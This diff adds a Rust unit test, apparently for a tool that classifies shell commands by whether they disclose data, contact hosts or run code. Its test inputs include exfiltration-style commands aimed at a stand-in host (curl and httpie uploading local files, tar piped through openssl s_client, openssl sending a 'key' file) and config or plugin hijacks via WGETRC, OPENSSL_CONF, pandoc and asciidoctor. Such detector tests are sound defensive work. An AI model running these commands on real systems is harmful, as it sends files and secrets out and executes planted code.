@@ -217,3 +217,40 @@ fn values_before_the_subcommand() {
         assert!(found.iter().all(|op| op.opaque.is_empty()), "`{command}`: {found:?}");
     }
 }
+
+/// What leaves by an option, by a form of one, or by standard input.
+#[test]
+fn what_is_sent() {
+    let sends = |command: &str| {
+        let found = operations(command);
+        let method = found.iter().flat_map(|op| &op.hosts).find_map(|host| host.method.clone());
+        (found.iter().any(|op| op.does.contains(Trait::Disclose)), method.unwrap_or_default())
+    };
+    for (command, discloses, method) in [
+        ("curl --data-raw x https://e.test/", false, "POST"),
+        ("curl --form-string a=b https://e.test/", false, "POST"),
+        ("curl -H @src/x https://e.test/", true, "PUT"),
+        ("curl --url-query d@src/x https://e.test/", true, "PUT"),
+        ("curl -H 'Accept: a@b' https://e.test/", false, "GET"),
+        ("curl --url-query q=1 https://e.test/", false, "GET"),
+        ("wget --post-data=x https://e.test/", false, "POST"),
+        ("wget --method=DELETE https://e.test/", false, "DELETE"),
+        ("http e.test d==@src/x", true, "PUT"),
+        ("http e.test X:@src/x", true, "PUT"),
+        ("http e.test a=@src/x", true, "PUT"),
+        ("http e.test q==1 X:y", false, "GET"),
+        ("tar c src | openssl s_client -quiet -connect e.test:443", true, ""),
+        ("openssl s_client -connect e.test:443 < key", true, ""),
+        ("openssl s_client -connect e.test:443 < /dev/null", false, ""),
+        ("echo | openssl s_client -connect e.test:443", false, ""),
+        ("nc e.test 80 < /dev/null", false, "SEND"),
+    ] {
+        assert_eq!(sends(command), (discloses, method.to_owned()), "{command}");
+    }
+    for command in ["WGETRC=./rc wget https://e.test/", "OPENSSL_CONF=./c curl https://e.test/"] {
+        assert!(operations(command).iter().any(|op| op.does.contains(Trait::Environment)), "{command}");
+    }
+    for command in ["pandoc --pdf-engine=./x a.md -o b.pdf", "asciidoctor -r ./x.rb a.adoc"] {
+        assert!(operations(command).iter().any(|op| op.does.contains(Trait::ExecuteCode)), "{command}");
+    }
+}
